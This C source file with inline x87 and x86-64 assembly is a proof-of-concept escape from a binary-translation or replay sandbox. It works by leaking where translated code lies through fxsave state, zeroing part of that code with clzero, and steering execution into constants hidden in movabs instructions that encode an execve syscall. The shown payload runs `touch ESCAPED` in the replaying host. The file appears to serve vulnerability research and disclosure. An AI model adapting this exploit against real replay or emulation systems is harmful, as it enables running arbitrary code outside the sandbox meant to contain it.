/*
 * escape LINE: a program that notices that it is replayed and tries to run
 * `touch ESCAPED` in the process that replays it.  It is an ordinary program
 * otherwise: natively it prints "native" and ends.
 *
 * What it relied on: the x87 state of a replay said where translated code lay,
 * clzero zeroed 64 bytes at the replayer's own address in rax, and translated
 * code could be written to.  The zeros shift how the bytes behind them are
 * divided into instructions, so that the constants of `mov $constant, %rbx`
 * are executed.  Which of the lines behind the place that leaked is the right
 * one depends on the replayer's build: 1 to 16 are worth trying.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* where the program's memory lies in a replay */
#define HOST(p) ((uint64_t)(uintptr_t)(p) + 0x100080000000u)

static uint8_t state[512] __attribute__((aligned(64)));
uint8_t *const state_at = state;
const short divide_by_zero = 0x037b;    /* x87: that exception is not masked */
static uint64_t args[3], env[1], stack[16];
static char command[] = "/usr/bin/touch", file[] = "ESCAPED";

/*
 * The constants: nops and a jump over the next instruction's first bytes; the last ones are push
 * $59; pop %rax; syscall
 */
#define NOPS  "	movabs	$0x13eb909090909090, %rbx\n"
#define NOPS8 NOPS NOPS NOPS NOPS NOPS NOPS NOPS NOPS
#define CALL  "	movabs	$0x13eb90050f583b6a, %rbx\n"
uint64_t leak(void);
__asm__(
"	.globl	leak\n"
"leak:\n"
"	fninit\n"
"	fldcw	divide_by_zero(%rip)\n"
"	fld1\n"
"	fldz\n"
"	fdivrp\n"
"	mov	state_at(%rip), %rcx\n"
"	fxsave64 (%rcx)\n"
"	fninit\n"
NOPS8 NOPS8 NOPS8 NOPS8
CALL CALL CALL
"	ret\n");

int
main(int argc, char **argv)
{
	uint64_t line = argc > 1 ? strtoull(argv[1], NULL, 0) : 1, ip, ret;
	uint64_t (*volatile fn)(void) = leak;

	args[0] = HOST(command);
	args[1] = HOST(file);
	for (int i = 0; i < 2; i++) {
		__asm__ volatile("push %%rbx\n\tcall *%[fn]\n\tpop %%rbx" : "=a"(ret) :
		    [fn] "r"(fn), "a"(HOST(stack)), "D"(HOST(command)), "S"(HOST(args)), "d"(HOST(env)) :
		    "rcx", "memory", "cc");
		memcpy(&ip, state + 8, 8);
		if (ip >> 24 == 0) {
			puts("native");
			return 0;
		}
		__asm__ volatile(".byte 0x0f, 0x01, 0xfc" : : "a"((ip & ~UINT64_C(63)) + 64 * line) :
		    "memory");
	}
	return 7;
}
